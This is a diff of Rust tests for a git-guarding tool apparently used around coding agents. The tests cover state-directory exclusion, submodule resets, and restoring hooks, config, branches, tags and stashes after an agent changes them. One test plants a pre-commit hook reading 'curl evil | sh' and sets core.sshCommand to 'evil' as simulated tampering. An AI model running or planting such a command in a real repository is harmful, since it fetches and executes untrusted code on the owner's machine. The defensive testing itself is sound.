@@ -372,7 +372,7 @@ fn work_is_kept_and_comes_back_exactly() {
     repository.write("gone", "x");
     repository.write("was-file", "x");
     let base = repository.commit_all("base");
-    repository.write(".wiggum/wiggum.db", "journal");
+    repository.write(".wiggum/loops/1/status.json", "{}");
     repository.git.exclude_state_dir().unwrap();
 
     for name in STRANGE {
@@ -399,7 +399,7 @@ fn work_is_kept_and_comes_back_exactly() {
     repository.git.reset_hard(Some(&base), &["PROMPT.md"]).unwrap();
     assert_eq!(repository.short_status(), "?? PROMPT.md\n");
     assert_eq!((repository.read("gone").as_str(), repository.read("was-file").as_str()), ("x", "x"));
-    for kept in ["PROMPT.md", "build.log", ".wiggum/wiggum.db"] {
+    for kept in ["PROMPT.md", "build.log", ".wiggum/loops/1/status.json"] {
         assert!(repository.exists(kept), "{kept}");
     }
 
@@ -591,7 +591,7 @@ fn changes_that_no_longer_fit_are_not_lost() {
         assert!(!repository.git.same_changes(&commit, &other).unwrap());
         repository.write(path, theirs);
         repository.commit_all("task");
-        assert_eq!(repository.git.put_back(&commit, &[]).unwrap(), PutBack::Conflict);
+        assert!(matches!(repository.git.put_back(&commit, &[]).unwrap(), PutBack::Conflict(_)));
         assert!(repository.git.status().unwrap().is_clean(), "{}", repository.short_status());
         assert_eq!(repository.read(path), theirs);
         assert_eq!(repository.git.resolve("refs/wiggum/user").unwrap(), Some(commit));
@@ -637,14 +637,27 @@ fn submodules_take_part() {
     let base = repository.commit_all("add a submodule");
     repository.write("lib/a.txt", "changed inside");
     let status = repository.git.status().unwrap();
-    assert_eq!((status.unstaged[0].path.as_str(), status.unstaged[0].mode), ("lib", 0o160_000));
+    assert_eq!(status.uncommitted_inside, ["lib"]);
+    // Nothing of that can be staged or put back here.
+    assert!(status.is_clean(), "{status:?}");
     let inner = discover(&repository.root.join("lib")).unwrap();
     assert_eq!(inner.root(), repository.root.join("lib"));
     inner.stage_all(&[]).unwrap();
     let moved = committed(inner.commit("inside", &[]).unwrap());
     repository.git.stage_all(&[]).unwrap();
     assert_eq!(repository.git.status().unwrap().staged[0].blob_after, Some(moved));
-    assert_ne!(repository.commit_all("move the submodule"), base);
+    let tip = repository.commit_all("move the submodule");
+    assert_ne!(tip, base);
+    // Another commit inside is a change; going back to a commit takes the submodule along, and nothing
+    // that is not committed inside is lost.
+    repository.write("lib/new.txt", "not committed");
+    repository.git.reset_hard(Some(&base), &[]).unwrap();
+    let status = repository.git.status().unwrap();
+    assert!(status.is_clean(), "{status:?}");
+    assert_eq!(status.uncommitted_inside, ["lib"]);
+    assert_eq!(repository.read("lib/new.txt"), "not committed");
+    repository.git.reset_hard(Some(&tip), &[]).unwrap();
+    assert_eq!(repository.read("lib/a.txt"), "changed inside");
 }
 
 #[test]
@@ -666,7 +679,7 @@ fn a_linked_work_tree_has_its_own_head_and_index() {
     assert_eq!(git.head().unwrap().commit, Some(commit.clone()));
     assert_ne!(repository.tip(), commit);
     git.exclude_state_dir().unwrap();
-    assert!(git.ignored(".wiggum/").unwrap());
+    assert!(git.ignored(".wiggum/store").unwrap());
 }
 
 #[test]
@@ -690,9 +703,19 @@ fn the_state_directory_is_excluded_once_and_only_if_needed() {
     repository.git.exclude_state_dir().unwrap();
     repository.git.exclude_state_dir().unwrap();
     let exclude = repository.read(".git/info/exclude");
-    assert_eq!(exclude.matches(".wiggum/").count(), 1);
-    repository.write(".wiggum/x", "");
+    assert_eq!(exclude.matches("\n/.wiggum/*").count() + usize::from(exclude.starts_with("/.wiggum/*")), 1);
+    for ours in ["store", "backlog.lock", "loops/1/status.json"] {
+        repository.write(&format!(".wiggum/{ours}"), "");
+    }
     assert!(repository.git.status().unwrap().is_clean());
+    // What people commit there, git sees.
+    repository.write(".wiggum/plans/a--b.json", "");
+    assert_eq!(repository.git.status().unwrap().paths(), [".wiggum/plans/a--b.json"]);
+
+    // What an older version wrote is replaced.
+    repository.write(".git/info/exclude", "mine\n.wiggum/\n");
+    repository.git.exclude_state_dir().unwrap();
+    assert!(repository.read(".git/info/exclude").starts_with("mine\n/.wiggum/*\n"));
 
     let repository = Repository::new();
     repository.write(".gitignore", ".wiggum\n");
@@ -755,8 +778,8 @@ fn planted_hooks_and_settings_are_put_back() {
     repository.hook("commit-msg", "exit 0");
     symlink("commit-msg", repository.root.join(".git/hooks/post-merge")).unwrap();
     let store = repository.root.join(".git/guard");
-    let guardian = Guardian::take(&repository.git, &store).unwrap();
-    assert_eq!(guardian.compare_and_put_back().unwrap(), Vec::<String>::new());
+    let mut guardian = Guardian::take(&repository.git, &store).unwrap();
+    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
     let before = repository.read(".git/config");
 
     repository.hook("pre-commit", "curl evil | sh");
@@ -765,8 +788,8 @@ fn planted_hooks_and_settings_are_put_back() {
     fs::remove_file(repository.root.join(".git/hooks/post-merge")).unwrap();
     repository.run(&["config", "core.sshCommand", "evil"]);
     // By another engine, after a kill -9.
-    let guardian = Guardian::open(&repository.git, &store).unwrap().unwrap();
-    let changed = guardian.compare_and_put_back().unwrap();
+    let mut guardian = Guardian::open(&repository.git, &store).unwrap().unwrap();
+    let changed = guardian.compare_and_put_back(&store).unwrap();
     let expected =
         ["config", "hooks/commit-msg", "hooks/post-commit", "hooks/post-merge", "hooks/pre-commit"];
     assert_eq!(changed, expected);
@@ -776,17 +799,17 @@ fn planted_hooks_and_settings_are_put_back() {
     assert!(repository.root.join(".git/hooks/post-merge").is_symlink());
     let mode = repository.root.join(".git/hooks/commit-msg").metadata().unwrap().permissions().mode();
     assert_eq!(mode & 0o777, 0o755);
-    assert_eq!(guardian.compare_and_put_back().unwrap(), Vec::<String>::new());
+    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
 
     // The whole directory replaced by a link to somewhere else.
     let outside = tempfile::tempdir().unwrap();
     fs::remove_dir_all(repository.root.join(".git/hooks")).unwrap();
     symlink(outside.path(), repository.root.join(".git/hooks")).unwrap();
-    assert!(!guardian.compare_and_put_back().unwrap().is_empty());
+    assert!(!guardian.compare_and_put_back(&store).unwrap().is_empty());
     assert_eq!(repository.read(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
     assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
 
-    fs::write(store.join("git-guard"), "wiggum git guard 1\nhalf").unwrap();
+    fs::write(store.join("git-guard"), "wiggum git guard 2\nhalf").unwrap();
     assert!(Guardian::open(&repository.git, &store).unwrap().is_none(), "half a snapshot is none");
 }
 
@@ -795,4 +818,57 @@ fn a_hooks_path_counts_as_hooks() {
     let repository = Repository::new();
     repository.run(&["config", "core.hooksPath", ".githooks"]);
     assert!(repository.git.hooks_present().unwrap());
+}
+
+#[test]
+fn a_repository_of_somebody_else_is_named() {
+    let repository = Repository::new();
+    let env = vec![(OsString::from("GIT_TEST_ASSUME_DIFFERENT_OWNER"), OsString::from("1"))];
+    let refused = Git::discover_with(&repository.root, env);
+    let root = repository.root.to_str().unwrap();
+    assert!(matches!(&refused, Err(GitError::NotOwned { path }) if path == root), "{refused:?}");
+    assert!(Git::discover_with(&repository.root, Vec::new()).unwrap().is_some());
+}
+
+#[test]
+fn branches_tags_and_stashes_are_as_before() {
+    let repository = Repository::new();
+    let store = repository.root.join(".git/guard");
+    repository.run(&["branch", "other"]);
+    repository.run(&["tag", "v1"]);
+    for text in ["older", "newer"] {
+        repository.write("a.txt", text);
+        repository.run(&["stash", "push", "-m", text]);
+    }
+    let stashes = repository.run(&["stash", "list"]);
+    let mut guardian = Guardian::take(&repository.git, &store).unwrap();
+
+    repository.run(&["commit", "--allow-empty", "-q", "-m", "more"]);
+    repository.run(&["branch", "-f", "other", "HEAD"]);
+    repository.run(&["tag", "-d", "v1"]);
+    repository.run(&["stash", "drop", "stash@{1}"]);
+    repository.run(&["branch", "of-the-agent"]);
+    repository.run(&["replace", "HEAD", "HEAD~1"]);
+    let changed = guardian.compare_and_put_back(&store).unwrap();
+    assert!(changed.iter().any(|name| name.starts_with("refs/replace/")), "{changed:?}");
+    let others: Vec<&String> = changed.iter().filter(|name| !name.starts_with("refs/replace/")).collect();
+    assert_eq!(others, ["refs/heads/other", "refs/stash", "refs/tags/v1"]);
+    assert_eq!(repository.run(&["stash", "list"]), stashes);
+    assert_eq!(
+        repository.run(&["rev-parse", "other", "v1"]),
+        repository.run(&["rev-parse", "HEAD~1", "HEAD~1"])
+    );
+    assert!(repository.run(&["replace", "-l"]).is_empty());
+    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
+
+    // A branch that an agent made may be moved by the next one.
+    let mut guardian = Guardian::take(&repository.git, &store).unwrap();
+    repository.run(&["branch", "-f", "of-the-agent", "HEAD~1"]);
+    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
+    // A stash that came stays, and so does what was there.
+    repository.write("a.txt", "newest");
+    repository.run(&["stash", "push", "-m", "newest"]);
+    repository.run(&["stash", "drop", "stash@{1}"]);
+    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), ["refs/stash"]);
+    assert_eq!(repository.run(&["stash", "list"]).lines().count(), 3);
 }
